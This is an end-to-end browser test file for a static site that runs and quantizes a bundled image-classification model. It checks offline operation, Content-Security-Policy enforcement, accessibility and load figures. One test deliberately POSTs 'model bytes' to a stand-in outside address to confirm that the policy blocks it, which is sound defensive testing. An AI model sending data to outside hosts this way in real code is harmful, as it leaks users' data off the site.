// The deployable site (scripts/build-site.sh, built by scripts/test.sh into target/site/qplay)
// served from a sub-path by a plain static server (`python3 -m http.server` in target/site), in
// Chromium: it runs a bundled model without a request outside the site, works offline after one
// visit, its Content-Security-Policy refuses a fetch to another origin, and axe-core finds nothing
// serious on it. Prints the load figures.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { spawn } from "node:child_process";
import { fileURLToPath } from "node:url";
import { launch } from "./browser.mjs";

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../..");
const parent = path.join(root, "target/site");
const TIMEOUT = 180_000;

let server, base, browser, context, page;
const outside = [];
let fromNetwork = 0;
const consoleLines = [];

before(async () => {
  assert.ok(fs.existsSync(path.join(parent, "qplay/index.html")), "target/site/qplay is missing: run bash scripts/build-site.sh target/site/qplay");
  server = spawn("python3", ["-u", "-m", "http.server", "0", "--bind", "127.0.0.1", "--directory", parent], { stdio: ["ignore", "pipe", "ignore"] });
  const port = await new Promise((resolve, reject) => {
    server.stdout.on("data", (d) => { const m = String(d).match(/port (\d+)/); if (m) resolve(m[1]); });
    server.on("exit", (c) => reject(new Error(`http.server exited with ${c}`)));
  });
  base = `http://127.0.0.1:${port}/qplay/`;
  browser = await launch();
  context = await browser.newContext({ viewport: { width: 1100, height: 900 } });
  context.setDefaultTimeout(TIMEOUT);
  // Requests of the page, its workers and the service worker.
  context.on("request", (r) => { const u = r.url(); if (!u.startsWith(base) && !u.startsWith("data:") && !u.startsWith("blob:")) outside.push(u); });
  context.on("requestfinished", async (r) => {
    const resp = await r.response();
    if (resp && !resp.fromServiceWorker()) { const s = await r.sizes(); fromNetwork += s.responseBodySize + s.responseHeadersSize; }
  });
  // Every policy violation the page reports, collected from the first script on.
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  page = await context.newPage();
  page.on("console", (m) => consoleLines.push(`${m.type()}: ${m.text()}`));
  page.on("pageerror", (e) => consoleLines.push(`pageerror: ${e}`));
});

after(async () => {
  await browser?.close();
  server?.kill();
});

const ready = () => page.locator('[data-testid="model-sample-efficientnet_lite0"]:enabled').waitFor();

// Time to an interactive page (the worker started and the bundled models offered) and the bytes
// that came over the network meanwhile.
async function load(how) {
  const bytes0 = fromNetwork;
  const t0 = Date.now();
  await how();
  await ready();
  return { ms: Date.now() - t0, bytes: fromNetwork - bytes0 };
}

async function classifyCat() {
  const ref = JSON.parse(fs.readFileSync(path.join(root, "tests/reference/efficientnet_lite0/top5.json"), "utf8"));
  await page.click('[data-testid="model-sample-efficientnet_lite0"]');
  await page.locator('[data-testid="model-name"]:has-text("EfficientNet-Lite0")').waitFor();
  await page.click('[data-testid="photo-chelsea"]');
  await page.locator('[data-testid="results"] h2:has-text("chelsea.png")').waitFor();
  assert.equal(Number(await page.getAttribute('[data-testid="top1"]', "data-class")), ref["chelsea.png"].top5[0].index);
}

const mb = (n) => `${(n / 1e6).toFixed(2)} MB`;
let cold;

test("from a sub-path of a plain static server: a bundled model runs on a photo, no request leaves the site", { timeout: 600_000 }, async () => {
  const t0 = Date.now();
  cold = await load(() => page.goto(base));
  await classifyCat();
  cold.firstMs = Date.now() - t0;
  assert.deepEqual(outside, []);
  assert.deepEqual(await page.evaluate(() => window.__violations), [], "the page itself breaks no policy");
  assert.ok(!consoleLines.some((l) => /error|Content Security Policy/i.test(l)), consoleLines.join("\n"));
});

test("offline after one visit: a reload loads, runs a bundled model and quantizes it", { timeout: 600_000 }, async () => {
  // The service worker has cached the whole build and controls the page.
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  const precached = fromNetwork;
  const warm = await load(() => page.reload());
  console.log(`load: cold ${cold.ms} ms to interactive, ${mb(cold.bytes)} transferred by then (${mb(precached)} once the service worker cached the site), ${cold.firstMs} ms to the first inference (EfficientNet-Lite0 fetched, loaded and run on a photo); warm ${warm.ms} ms, ${mb(warm.bytes)} transferred`);
  await context.setOffline(true);
  try {
    await page.reload();
    await ready();
    await classifyCat();
    await page.click('[data-testid="preset-int8-pc"]');
    await page.click('[data-testid="quantize"]');
    await page.locator('[data-testid="quant-summary"]').waitFor();
    assert.match(await page.textContent('[data-testid="quant-summary"]'), /W8A8 per-channel/);
  } finally {
    await context.setOffline(false);
  }
  assert.deepEqual(outside, []);
});

test("the Content-Security-Policy refuses a fetch to another origin", { timeout: 600_000 }, async () => {
  assert.deepEqual(await page.evaluate(() => window.__violations), []);
  const result = await page.evaluate(() => fetch("http://198.51.100.7/upload", { method: "POST", body: "model bytes" }).then(() => "sent", (e) => `refused: ${e.message}`));
  assert.match(result, /^refused/);
  const violations = await page.evaluate(() => window.__violations);
  assert.deepEqual(violations, ["connect-src http://198.51.100.7/upload"]);
  assert.deepEqual(outside, [], "the refused fetch never left the browser");
});

// axe-core's serious and critical findings on the page (every section is in the document).
async function axeFindings() {
  await page.evaluate(fs.readFileSync(path.join(root, "tests/e2e/node_modules/axe-core/axe.min.js"), "utf8"));
  const r = await page.evaluate(() => axe.run(document, { resultTypes: ["violations"] }));
  return r.violations.filter((v) => v.impact === "serious" || v.impact === "critical").map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(" ")).join(", ")}`);
}

test("axe-core finds nothing serious or critical: loaded, classified, quantized, in light and dark themes", { timeout: 600_000 }, async () => {
  for (const scheme of ["light", "dark"]) {
    await page.emulateMedia({ colorScheme: scheme });
    await page.reload();
    await ready();
    assert.deepEqual(await axeFindings(), [], `${scheme}, loaded`);
    await classifyCat();
    await page.click('[data-testid="preset-int8-pc"]');
    await page.click('[data-testid="quantize"]');
    await page.locator('[data-testid="quant-summary"]').waitFor();
    assert.deepEqual(await axeFindings(), [], `${scheme}, classified and quantized`);
  }
});
